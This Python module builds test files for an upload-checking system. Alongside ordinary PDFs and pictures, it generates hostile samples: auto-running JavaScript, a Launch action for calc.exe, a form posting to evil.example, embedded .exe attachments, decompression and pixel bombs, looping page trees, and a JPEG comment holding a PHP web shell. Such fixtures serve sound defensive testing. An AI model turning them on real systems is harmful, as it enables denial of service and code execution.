"""Files as people send them, whole ones and hostile ones, made in code."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

LINE = b"BT /F1 12 Tf 72 720 Td (Statuto) Tj ET"


def make_pdf(
    change: Callable[[pikepdf.Pdf], None] | None = None, *, mark: bytes = b"", **saving: object
) -> bytes:
    """Return a PDF of one page; `mark` makes it another file, `change` does something to it before it is saved."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.pages[0].Contents = Stream(pdf, LINE + b" % " + mark)
    if change:
        change(pdf)
    written = io.BytesIO()
    pdf.save(written, **saving)
    return written.getvalue()


def make_picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), **saving: object) -> bytes:
    """Return a picture of one colour."""
    written = io.BytesIO()
    Image.new("RGB", size, "#0b5cad").save(written, form, **saving)
    return written.getvalue()


def make_zip(*names: str, content: bytes = b"x") -> bytes:
    """Return an archive with these names in it."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return written.getvalue()


def with_script(pdf: pikepdf.Pdf) -> None:
    """Let a program run as soon as the document opens, by name, on a page and behind a link."""
    run = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.OpenAction = pdf.make_indirect(run)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), run])))
    pdf.pages[0].obj.AA = Dictionary(O=run)
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.URI, URI="http://a.it", Next=run),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def with_launch(pdf: pikepdf.Pdf) -> None:
    """Let a click start a program."""
    start = Dictionary(S=Name.Launch, F=String("calc.exe"))
    _note(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=start))


def with_javascript_link(pdf: pikepdf.Pdf) -> None:
    """Let a link carry a program."""
    run = Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))
    _note(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=run))


def with_sending_form(pdf: pikepdf.Pdf) -> None:
    """Let a form send itself away, in the old language and in XFA."""
    send = Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("b"), Rect=Array([0, 0, 9, 9]), A=send
    )
    _note(pdf, field)
    xfa = Stream(pdf, b"<xdp/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(list(pdf.pages[0].obj.Annots)), XFA=pdf.make_indirect(xfa))


def with_attachment(pdf: pikepdf.Pdf) -> None:
    """Hang a file on the document, and another one on its page."""
    pdf.attachments["virus.exe"] = b"MZ virus"
    held = Dictionary(Type=Name.EmbeddedFile)
    file = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=Stream(pdf, b"MZ other", held)))
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=pdf.make_indirect(file)
    )
    _note(pdf, note)


def with_film(pdf: pikepdf.Pdf) -> None:
    """Put a film on the page."""
    held = Dictionary(Assets=Dictionary(Names=Array([])))
    _note(
        pdf,
        Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=held),
    )


def with_signature(pdf: pikepdf.Pdf) -> None:
    """Let the document look digitally signed."""
    signed = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("x" * 20))
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([pdf.make_indirect(Dictionary(FT=Name.Sig, T="s", V=signed))]), SigFlags=3
    )


def with_signature_and_script(pdf: pikepdf.Pdf) -> None:
    """Sign a document that runs a program."""
    with_signature(pdf)
    with_script(pdf)


def with_bomb(pdf: pikepdf.Pdf) -> None:
    """Let a page unfold into 300 MB of nothing."""
    pdf.pages[0].Contents = Stream(pdf, folded(300), Dictionary(Filter=Name.FlateDecode))


def with_double_bomb(pdf: pikepdf.Pdf) -> None:
    """Fold a page twice."""
    twice = zlib.compress(folded(50))
    pdf.pages[0].Contents = Stream(pdf, twice, Dictionary(Filter=Array([Name.FlateDecode, Name.FlateDecode])))


def with_many_pages(pdf: pikepdf.Pdf) -> None:
    """Let the document have 501 pages."""
    for _number in range(500):
        pdf.add_blank_page()


def folded(megabytes: int) -> bytes:
    """Return so many megabytes of nothing, compressed."""
    fold = zlib.compressobj(9)
    nothing = b"\0" * 1024 * 1024
    return b"".join(fold.compress(nothing) for _number in range(megabytes)) + fold.flush()


def object_bomb() -> bytes:
    """Return a PDF whose list of objects alone unfolds into 600 MB."""
    packed = folded(600)
    head = b"%PDF-1.7\n"
    body = b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    body += packed + b"\nendstream\nendobj\n"
    rows = [
        struct.pack(">BIH", 0, 0, 65535),
        struct.pack(">BIH", 1, len(head), 0),
        struct.pack(">BIH", 2, 1, 0),
    ]
    place = len(head) + len(body)
    rows.append(struct.pack(">BIH", 1, place, 0))
    table = b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 2]/Root 2 0 R/Length %d>>\nstream\n" % (7 * 4)
    table += b"".join(rows) + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % place
    return head + body + table


def endless_pages() -> bytes:
    """Return a PDF whose pages lead back to themselves."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R 3 0 R]/Count 99>>",
        b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99>>",
    ]
    return written_out(objects)


def deep_nest() -> bytes:
    """Return a PDF with a list inside a list inside a list, a thousand times over."""
    return written_out(
        [
            b"<</Type/Catalog/Pages 2 0 R/X %b%b>>" % (b"[" * 1000, b"]" * 1000),
            b"<</Type/Pages/Kids[]/Count 0>>",
        ]
    )


def written_out(objects: list[bytes]) -> bytes:
    """Return a PDF of these objects."""
    body, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(body))
    return body + table + trailer


def picture_bomb() -> bytes:
    """Return a PNG that says it has 900 million pixels."""
    return _png(struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0), zlib.compress(b"\0" * 1000))


def broken_picture() -> bytes:
    """Return a PNG whose pixels stop in the middle."""
    return make_picture("PNG", (500, 500))[:300]


def moving_picture() -> bytes:
    """Return a PNG that moves."""
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    written = io.BytesIO()
    frames[0].save(written, "PNG", save_all=True, append_images=frames[1:])
    return written.getvalue()


def photo_with_place() -> bytes:
    """Return a photograph on its side that tells where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Macchina segreta"
    exif.get_ifd(0x8825)[1] = "N"
    return make_picture(exif=exif, comment=b"<?php system($_GET[0]); ?>")


def _png(header: bytes, pixels: bytes) -> bytes:
    """Return a PNG of these parts."""
    parts = [(b"IHDR", header), (b"IDAT", pixels), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in parts
    )


def _note(pdf: pikepdf.Pdf, note: Dictionary) -> None:
    """Put a note on the first page."""
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])
